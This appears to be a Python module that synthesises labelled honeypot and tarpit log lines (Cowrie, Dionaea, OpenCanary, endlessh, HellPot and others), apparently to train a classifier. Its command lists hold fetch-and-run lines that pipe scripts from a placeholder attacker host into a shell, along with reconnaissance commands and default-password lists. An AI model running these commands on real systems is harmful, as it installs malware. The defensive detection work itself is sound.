"""Honeypots and tarpits: whoever talks to them is an intruder or a scanner.

Families: ``honeypot`` (Cowrie text and JSON logs, Dionaea, OpenCanary,
sshesame) and ``tarpit`` (endlessh, endlessh-go, HellPot, LaBrea).  Formats
follow the projects' documentation of their log events; no line is copied.

Labelling decisions: no legitimate client has a reason to reach a honeypot,
so every line about a peer is an attack, named by what the peer did.

* A bare connection, a client version banner, a port probe, a closed or
  lost session, a tarpitted connection opened or closed: network_scan.
* A login attempt, failed or "succeeded" (a honeypot lets guesses in):
  brute_force.
* A file downloaded or offered by the intruder, a download-and-run command:
  malware_c2.
* Commands that survey the host (``uname``, ``whoami``, ``cat
  /proc/cpuinfo``), share and SNMP enumeration: recon.
* An HTTP tarpit's crawler hits (HellPot feeds robots.txt-disallowed paths
  to the bots that ignore it): web_scan.
* The trap's own life (started, listening, configuration, output plugins
  loaded, statistics totals): benign.
"""

from __future__ import annotations

from collections.abc import Callable

from insyt.training.synth.core import BENIGN, Ctx, Emitter
from insyt.training.synth.product import Make, Maker, as_json, clock, filled, per_category, rescaled

_PASSWORDS = (
    "{pick:123456|admin|password|root|12345678|qwerty|1qaz2wsx|P@ssw0rd|toor|raspberry|"
    "changeme|admin123|ubnt|default|1234|12345|111111|pass|test|guest|support|"
    "{word}{int:1-999}|{baduser}123|Passw0rd!|Huawei@123|zte521|vizxv|xc3511|7ujMko0admin}"
)
RECON_COMMANDS = (
    "uname -a",
    "uname -s -v -n -r -m",
    "whoami",
    "id",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "lscpu | grep Model",
    "nproc",
    "w",
    "cat /etc/issue",
    "cat /etc/os-release",
    "ls -lh $(which ls)",
    "crontab -l",
    "ifconfig",
    "ip addr",
    "ps aux",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "last",
    "hostname",
    "cat /etc/passwd",
    "echo \\x61\\x75\\x74\\x68\\x5f\\x6f\\x6b",
)
MALWARE_COMMANDS = (
    "cd /tmp || cd /var/run || cd /mnt; wget http://{evil}/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "cd /tmp; curl -O http://{evil}/{pick:x86|mips|arm7|sora.sh}; chmod +x {pick:x86|mips|"
    "arm7|sora.sh}; ./{pick:x86|mips|arm7|sora.sh}",
    "curl -s http://{evil}/{hex:6} | sh",
    "wget -qO- http://{evil}/i.sh | bash",
    "tftp {pubip} -c get {pick:t.sh|tftp1.sh}; sh {pick:t.sh|tftp1.sh}",
    "busybox wget http://{evil}/{pick:mips|mpsl|arm}; chmod 777 {pick:mips|mpsl|arm}; "
    "./{pick:mips|mpsl|arm} {pick:selfrep|ssh.x|telnet}",
    "echo {blob:48} | base64 -d | bash",
    "/bin/busybox {pick:ECCHI|MIORI|OWARI|{word}}",
)

# --- Cowrie -----------------------------------------------------------------------------

_COWRIE_SSH = "[HoneyPotSSHTransport,{int:0-9999},{ip}]"
_COWRIE_TELNET = "[HoneyPotTelnetSession,{int:0-9999},{ip}]"
_COWRIE_CHAN = (
    "[SSHChannel session (0) on SSHService b'ssh-connection' on HoneyPotSSHTransport,"
    "{int:0-9999},{ip}]"
)
COWRIE_TEXT = (
    (
        "network_scan",
        "[cowrie.ssh.factory.CowrieSSHFactory] New connection: {ip}:{port} "
        "({privip}:{pick:22|2222}) [session: {session}]",
    ),
    (
        "network_scan",
        "[cowrie.telnet.factory.HoneyPotTelnetFactory] New connection: "
        "{ip}:{port} ({privip}:{pick:23|2223}) [session: {session}]",
    ),
    ("network_scan", _COWRIE_SSH + " Remote SSH version: {sshver}"),
    ("network_scan", _COWRIE_SSH + " SSH client hassh fingerprint: {hex:32}"),
    ("network_scan", _COWRIE_SSH + " Connection lost after {int:0-300} seconds"),
    ("network_scan", _COWRIE_SSH + " kex alg=b'curve25519-sha256' key alg=b'ssh-rsa'"),
    ("brute_force", _COWRIE_SSH + " login attempt [b'{user}'/b'{password}'] failed"),
    ("brute_force", _COWRIE_SSH + " login attempt [b'{user}'/b'{password}'] succeeded"),
    ("brute_force", _COWRIE_TELNET + " login attempt [b'{user}'/b'{password}'] failed"),
    ("brute_force", _COWRIE_SSH + " Could not read etc/userdb.txt, default database activated"),
    ("recon", _COWRIE_CHAN + " CMD: {recon}"),
    ("recon", _COWRIE_CHAN + " Command found: {recon}"),
    ("malware_c2", _COWRIE_CHAN + " CMD: {malware}"),
    (
        "malware_c2",
        "[cowrie.commands.wget] Downloaded URL (b'http://{evil}/{pick:bins.sh|x86|"
        "mips|{word}}') with SHA-256 {hex:64} to var/lib/cowrie/downloads/{hex:64}",
    ),
    (
        "malware_c2",
        _COWRIE_CHAN + " Closing TTY Log: var/lib/cowrie/tty/{hex:64} after {int:1-90} seconds",
    ),
    (BENIGN, "[-] Ready to accept SSH connections"),
    (BENIGN, "[-] Ready to accept Telnet connections"),
    (BENIGN, "[-] Cowrie Version {pick:2.4.0|2.5.0|2.6.1}"),
    (BENIGN, "[-] Loaded output engine: {pick:jsonlog|textlog|mysql|elasticsearch|splunk}"),
    (BENIGN, "[-] CowrieSSHFactory starting on {pick:2222|22}"),
    (
        BENIGN,
        "[-] twistd {pick:22.10.0|23.8.0|24.3.0} (/cowrie/cowrie-env/bin/python3 "
        "3.{int:9-12}.{int:0-12}) starting up.",
    ),
    (BENIGN, "[-] reactor class: twisted.internet.epollreactor.EPollReactor."),
    (
        BENIGN,
        "[cowrie.ssh.factory.CowrieSSHFactory#info] Stopping factory "
        "<cowrie.ssh.factory.CowrieSSHFactory object at 0x7f{hex:10}>",
    ),
    (BENIGN, "[-] Main loop terminated."),
)
_SSH_VERSIONS = (
    "{pick:SSH-2.0-Go|SSH-2.0-libssh2_1.{int:4-11}.0|SSH-2.0-libssh_0.{int:6-10}.{int:0-6}|"
    "SSH-2.0-OpenSSH_{int:7-9}.{int:0-9}|SSH-2.0-paramiko_{int:2-3}.{int:0-4}.{int:0-3}|"
    "SSH-2.0-PUTTY|SSH-2.0-ZGrab ZGrab SSH Survey|SSH-2.0-AsyncSSH_2.{int:10-14}.0}"
)
# (category, eventid, message, extra fields)
COWRIE_JSON: tuple[tuple[str, str, str, tuple[tuple[str, object], ...]], ...] = (
    (
        "network_scan",
        "cowrie.session.connect",
        "New connection: {ip}:{port} ({privip}:2222) [session: {session}]",
        (("protocol", "{pick:ssh|telnet}"),),
    ),
    (
        "network_scan",
        "cowrie.client.version",
        "Remote SSH version: {sshver}",
        (("version", "{sshver}"),),
    ),
    (
        "network_scan",
        "cowrie.session.closed",
        "Connection lost after {int:0-300} seconds",
        (("duration", "{float:300}"),),
    ),
    (
        "brute_force",
        "cowrie.login.failed",
        "login attempt [{user}/{password}] failed",
        (("username", "{user}"), ("password", "{password}")),
    ),
    (
        "brute_force",
        "cowrie.login.success",
        "login attempt [{user}/{password}] succeeded",
        (("username", "{user}"), ("password", "{password}")),
    ),
    ("recon", "cowrie.command.input", "CMD: {recon}", (("input", "{recon}"),)),
    ("malware_c2", "cowrie.command.input", "CMD: {malware}", (("input", "{malware}"),)),
    (
        "malware_c2",
        "cowrie.session.file_download",
        "Downloaded URL (http://{evil}/{word}) with "
        "SHA-256 {sha} to var/lib/cowrie/downloads/{sha}",
        (
            ("url", "http://{evil}/{word}"),
            ("outfile", "var/lib/cowrie/downloads/{sha}"),
            ("shasum", "{sha}"),
        ),
    ),
)


def _cowrie_values(c: Ctx, memo: dict[str, str]) -> dict[str, str]:
    if "session" not in memo:
        memo["session"] = c.fill("{hex:12}")
        memo["sshver"] = c.fill(_SSH_VERSIONS)
    return {
        "session": memo["session"],
        "sshver": memo["sshver"],
        "user": c.fill("{pick:root|admin|{baduser}}"),
        "password": c.fill(_PASSWORDS),
        "recon": c.pick(RECON_COMMANDS),
        "malware": c.fill(c.pick(MALWARE_COMMANDS)),
        "sha": c.fill("{hex:64}"),
        **clock(c.when),
    }


def _cowrie(category: str) -> Make:
    text_rows = [t for cat, t in COWRIE_TEXT if cat == category]
    json_rows = [r for r in COWRIE_JSON if r[0] == category]

    def make(c: Ctx, memo: dict[str, str]) -> str:
        values = _cowrie_values(c, memo)
        if json_rows and c.chance(0.45):
            _, event, message, extra = c.pick(json_rows)
            fields: list[tuple[str, object]] = [
                ("eventid", event),
                *extra,
                ("message", message),
                ("sensor", "{pick:hp|cowrie|honeypot}-{int:1-9}"),
                ("timestamp", "{isous}"),
                ("src_ip", "{ip}"),
                ("session", values["session"]),
            ]
            return as_json(
                c, [(k, c.fill(v, memo, **values) if isinstance(v, str) else v) for k, v in fields]
            )
        return f"{values['isous']} " + c.fill(c.pick(text_rows), memo, **values)

    return make


# --- Dionaea ----------------------------------------------------------------------------

_DIONAEA_PORTS = "{pick:445|21|1433|3306|42|135|5060|80|1723|11211|27017|69}"
DIONAEA = (
    (
        "network_scan",
        "connection connection.c:{int:600-4400}-message: connection 0x{hex:8} "
        "accept/tcp/established [{privip}:" + _DIONAEA_PORTS + "->{ip}:{port}] state: "
        "none->established",
    ),
    (
        "network_scan",
        "connection connection.c:{int:600-4400}-message: connection 0x{hex:8} "
        "accept/tcp/established [{privip}:" + _DIONAEA_PORTS + "->{ip}:{port}] state: "
        "established->close",
    ),
    (
        "network_scan",
        "python module.py:{int:100-300}-info: incident dionaea.connection.tcp."
        "accept from {ip}:{port}",
    ),
    (
        "brute_force",
        "mssql dionaea/mssql/mssql.py:{int:100-300}-info: login attempt user "
        "'{pick:sa|admin|{baduser}}' password '{password}' from {ip}",
    ),
    (
        "brute_force",
        "mysql dionaea/mysql/mysql.py:{int:100-300}-info: login attempt user "
        "'{pick:root|{baduser}}' password '{password}' from {ip}",
    ),
    (
        "brute_force",
        "ftp dionaea/ftp.py:{int:100-900}-info: USER {pick:anonymous|{baduser}} "
        "PASS {password} from {ip}",
    ),
    (
        "malware_c2",
        "download dionaea/download.py:{int:50-200}-info: download offer: "
        "http://{evil}/{pick:{word}.exe|x.exe|{hex:8}}",
    ),
    (
        "malware_c2",
        "store dionaea/store.py:{int:40-100}-info: storing {hex:32} from "
        "http://{evil}/{word}.exe as /opt/dionaea/var/lib/dionaea/binaries/{hex:32}",
    ),
    (
        "malware_c2",
        "smb dionaea/smb/smb.py:{int:300-1200}-info: DoublePulsar payload received "
        "from {ip}, {int:4000-90000} bytes",
    ),
    (
        "recon",
        "smb dionaea/smb/smb.py:{int:300-1200}-info: SMB_COM_TREE_CONNECT_ANDX "
        "\\\\{privip}\\IPC$ from {ip}",
    ),
    (
        "recon",
        "smb dionaea/smb/rpcservices.py:{int:100-2000}-info: NetrShareEnum request from {ip}",
    ),
    (BENIGN, "dionaea dionaea.c:{int:100-900}-message: Dionaea Version {pick:0.9.2|0.11.0}"),
    (BENIGN, "dionaea dionaea.c:{int:100-900}-message: Started with pid {pid}"),
    (BENIGN, "dionaea dionaea.c:{int:100-900}-info: Installing signal handlers"),
    (
        BENIGN,
        "dionaea module.c:{int:40-200}-info: loaded module /opt/dionaea/lib/dionaea/"
        "{pick:python|curl|emu|pcap|nfq}.so",
    ),
    (
        BENIGN,
        "python module.py:{int:100-300}-info: Loading module dionaea."
        "{pick:smb|ftp|http|mssql|mysql|sip|tftp|log_json}",
    ),
)

# --- OpenCanary -------------------------------------------------------------------------

# (category, logtype, destination port, logdata)
OPENCANARY: tuple[tuple[str, int, int, dict[str, str]], ...] = (
    ("network_scan", 4000, 22, {"SESSION": "{int:1-99999}"}),
    ("network_scan", 5001, 0, {}),
    ("network_scan", 5002, 0, {}),
    ("network_scan", 5003, 0, {}),
    ("network_scan", 5004, 0, {}),
    ("network_scan", 18001, 0, {"BANNER_ID": "1", "DATA": "", "FUNCTION": "CONNECTION_MADE"}),
    (
        "brute_force",
        4002,
        22,
        {
            "LOCALVERSION": "SSH-2.0-OpenSSH_5.1p1 Debian-4",
            "PASSWORD": "{password}",
            "REMOTEVERSION": "{sshver}",
            "USERNAME": "{user}",
        },
    ),
    ("brute_force", 2000, 21, {"PASSWORD": "{password}", "USERNAME": "{user}"}),
    (
        "brute_force",
        3001,
        80,
        {
            "HOSTNAME": "{privip}",
            "PASSWORD": "{password}",
            "PATH": "/index.html",
            "USERAGENT": "{browser}",
            "USERNAME": "{user}",
        },
    ),
    ("brute_force", 6001, 23, {"PASSWORD": "{password}", "USERNAME": "{user}"}),
    ("brute_force", 8001, 3306, {"PASSWORD": "{password}", "USERNAME": "{user}"}),
    ("brute_force", 14001, 3389, {"USERNAME": "{user}"}),
    (
        "recon",
        13001,
        161,
        {"COMMUNITY_STRING": "{pick:public|private|admin}", "REQUESTS": "['1.3.6.1.2.1.1.1.0']"},
    ),
    ("recon", 17001, 6379, {"ARGS": "", "CMD": "{pick:INFO|CONFIG GET *|KEYS *}"}),
    (
        "recon",
        3000,
        80,
        {
            "HOSTNAME": "{privip}",
            "PATH": "{pick:/.env|/.git/config|/cgi-bin/luci|/admin}",
            "SKIN": "nasLogin",
            "USERAGENT": "{scanua}",
        },
    ),
    (BENIGN, 1001, -1, {"msg": "Canary running!!!"}),
    (
        BENIGN,
        1001,
        -1,
        {"msg": "Added service from class CanaryHTTP in opencanary.modules.http to fake"},
    ),
    (BENIGN, 1005, -1, {"msg": "Configuration saved"}),
    (BENIGN, 1004, -1, {"msg": "Canary ping"}),
)


def _opencanary(category: str) -> Make:
    rows = [r for r in OPENCANARY if r[0] == category]

    def make(c: Ctx, memo: dict[str, str]) -> str:
        _, logtype, dport, logdata = c.pick(rows)
        values = _cowrie_values(c, memo)
        stamp = f"{c.when:%Y-%m-%d %H:%M:%S}.{c.when.microsecond:06d}"
        peer = category != BENIGN
        fields: list[tuple[str, object]] = [
            ("dst_host", "{privip}" if peer else ""),
            ("dst_port", dport if dport else c.rng.randint(1, 65535) if peer else -1),
            ("local_time", stamp),
            ("local_time_adjusted", stamp),
            ("logdata", {k: c.fill(v, memo, **values) for k, v in logdata.items()}),
            ("logtype", logtype),
            ("node_id", "{pick:opencanary|canary|hp}-{int:1-9}"),
            ("src_host", "{ip}" if peer else ""),
            ("src_port", c.rng.randint(1024, 65535) if peer else -1),
            ("utc_time", "{isous}"),
        ]
        if c.chance(0.6):  # releases before 0.7 wrote neither adjusted nor UTC time
            fields = [f for f in fields if f[0] not in ("local_time_adjusted", "utc_time")]
        return as_json(c, filled(c, memo, fields))

    return make


# --- sshesame ---------------------------------------------------------------------------

SSHESAME = (
    ("network_scan", '[{ip}:{port}] connection with client version "{sshver}" established'),
    ("network_scan", "[{ip}:{port}] connection closed"),
    (
        "brute_force",
        '[{ip}:{port}] authentication for user "{user}" with password "{password}" accepted',
    ),
    ("brute_force", '[{ip}:{port}] authentication for user "{user}" without credentials rejected'),
    ("recon", '[{ip}:{port}] [channel {int:0-3}] input: "{recon}"'),
    ("recon", "[{ip}:{port}] [channel {int:0-3}] session requested"),
    ("malware_c2", '[{ip}:{port}] [channel {int:0-3}] input: "{malware}"'),
    (BENIGN, "Listening on [::]:{pick:22|2022|2222}"),
    (
        BENIGN,
        "Host key written to {pick:/var/lib/sshesame|/root/.local/share/sshesame}/"
        "host_{pick:rsa|ecdsa|ed25519}_key",
    ),
)


def _values_texts(rows: tuple[tuple[str, str], ...], head: Callable[[Ctx], str]) -> Maker:
    def maker(category: str) -> Make:
        mine = [t for cat, t in rows if cat == category]

        def make(c: Ctx, memo: dict[str, str]) -> str:
            return head(c) + c.fill(c.pick(mine), memo, **_cowrie_values(c, memo))

        return make

    return maker


# --- tarpits ----------------------------------------------------------------------------

ENDLESSH = (
    ("network_scan", "ACCEPT host={host6} port={port} fd={int:4-4100} n={int:1-4096}/4096"),
    (
        "network_scan",
        "CLOSE host={host6} port={port} fd={int:4-4100} time={float:9000} bytes={int:20-90000}",
    ),
    (BENIGN, "Port {pick:22|2222}"),
    (BENIGN, "Delay {pick:10000|30000}"),
    (BENIGN, "MaxLineLength {pick:32|16|64}"),
    (BENIGN, "MaxClients {pick:4096|1024|256}"),
    (BENIGN, "BindFamily {pick:IPv4 Mapped IPv6|IPv4 Only|IPv6 Only}"),
    (BENIGN, "TOTAL connects={int:100-900000} seconds={float:9000000} bytes={int:1000-9000000}"),
)
ENDLESSH_GO = (
    ("network_scan", "client.go:{int:50-70}] ACCEPT host={ip} port={port} n={int:1-4096}/4096"),
    (
        "network_scan",
        "client.go:{int:80-100}] CLOSE host={ip} port={port} time={float:9000} "
        "bytes={int:20-90000}",
    ),
    (BENIGN, "main.go:{int:80-200}] Listening on {pick:0.0.0.0|[::]}:{pick:2222|22}"),
    (BENIGN, "main.go:{int:80-200}] Starting Prometheus on 0.0.0.0:2112, entry point is /metrics"),
    (BENIGN, "main.go:{int:80-200}] Max clients: {pick:4096|1024}"),
)
LABREA = (
    ("network_scan", "Initial Connect - tarpitting: {ip} {port} -> {privip} {sport}"),
    ("network_scan", "Persist Activity: {ip} {port} -> {privip} {sport} *"),
    ("network_scan", "Additional Activity: {ip} {port} -> {privip} {sport} *"),
    (BENIGN, "LaBrea started on interface {iface}"),
    (BENIGN, "Current average bw: {int:1-900} (bytes/sec)"),
    (BENIGN, "Network number: {privip}, netmask: 255.255.255.0"),
)
HELLPOT_TRAPS = (
    "/wp-login.php",
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/",
    "/admin/config.php",
    "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/backup.zip",
)


def _hellpot(category: str) -> Make:
    def make(c: Ctx, memo: dict[str, str]) -> str:
        fields: list[tuple[str, object]] = [("level", "info")]
        if category == BENIGN:
            fields += [
                ("caller", "/go/src/HellPot/internal/http/router.go:{int:100-200}"),
                ("time", "{iso}"),
                (
                    "message",
                    c.pick(
                        (
                            "Listening and serving HTTP...",
                            "Using config file: /etc/HellPot/config.toml",
                            "Setting up HTTP server on 127.0.0.1:8080",
                        )
                    ),
                ),
            ]
        else:
            fields += [
                ("USERAGENT", c.fill("{pick:{scanua}|{browser}|python-requests/2.{int:20-32}.0}")),
                ("REMOTE_ADDR", "{ip}"),
                ("URL", c.pick(HELLPOT_TRAPS)),
            ]
            if c.chance(0.5):
                fields += [
                    ("BYTES", c.rng.randint(10**5, 10**9)),
                    ("DURATION", round(c.rng.uniform(1, 900), 3)),
                    ("time", "{iso}"),
                    ("message", "FINISH"),
                ]
            else:
                fields += [("time", "{iso}"), ("message", "NEW")]
        return as_json(c, filled(c, memo, fields))

    return make


def _glog(c: Ctx) -> str:
    return f"I{c.when:%m%d %H:%M:%S}.{c.when.microsecond:06d}       1 "


def _endlessh_make(category: str) -> Make:
    mine = [t for cat, t in ENDLESSH if cat == category]

    def make(c: Ctx, memo: dict[str, str]) -> str:
        if "host6" not in memo:
            ip = c.fill("{ip}", memo)
            memo["host6"] = ip if ":" in ip else f"::ffff:{ip}"
        return f"{clock(c.when)['isoz']} " + c.fill(c.pick(mine), memo)

    return make


_HONEY = {"network_scan": 0.8, "brute_force": 0.9, "malware_c2": 0.4, "recon": 0.5, BENIGN: 0.6}

EMITTERS: tuple[Emitter, ...] = rescaled(
    (
        *per_category(
            "honeypot", "cowrie", ("cowrie", "twistd", "cowrie-ssh"), _cowrie, _HONEY, raw=0.5
        ),
        *per_category(
            "honeypot",
            "dionaea",
            ("dionaea",),
            _values_texts(DIONAEA, lambda c: f"[{c.when:%d%m%Y %H:%M:%S}] "),
            {"network_scan": 0.5, "brute_force": 0.3, "malware_c2": 0.3, "recon": 0.3, BENIGN: 0.3},
            raw=0.5,
        ),
        *per_category(
            "honeypot",
            "opencanary",
            ("opencanaryd", "opencanary", "canary"),
            _opencanary,
            {"network_scan": 0.4, "brute_force": 0.5, "recon": 0.3, BENIGN: 0.3},
            raw=0.3,
        ),
        *per_category(
            "honeypot",
            "sshesame",
            ("sshesame",),
            _values_texts(SSHESAME, lambda c: f"{c.when:%Y/%m/%d %H:%M:%S} "),
            {
                "network_scan": 0.3,
                "brute_force": 0.4,
                "recon": 0.2,
                "malware_c2": 0.15,
                BENIGN: 0.2,
            },
        ),
        *per_category(
            "tarpit",
            "endlessh",
            ("endlessh",),
            _endlessh_make,
            {"network_scan": 0.8, BENIGN: 0.4},
            raw=0.3,
        ),
        *per_category(
            "tarpit",
            "endlessh-go",
            ("endlessh-go", "endlessh"),
            _values_texts(ENDLESSH_GO, _glog),
            {"network_scan": 0.5, BENIGN: 0.3},
        ),
        *per_category(
            "tarpit",
            "labrea",
            ("LaBrea", "labrea"),
            _values_texts(LABREA, lambda c: ""),
            {"network_scan": 0.4, BENIGN: 0.2},
        ),
        *per_category(
            "tarpit",
            "hellpot",
            ("HellPot", "hellpot"),
            _hellpot,
            {"web_scan": 0.6, BENIGN: 0.3},
            raw=0.4,
        ),
    )
)
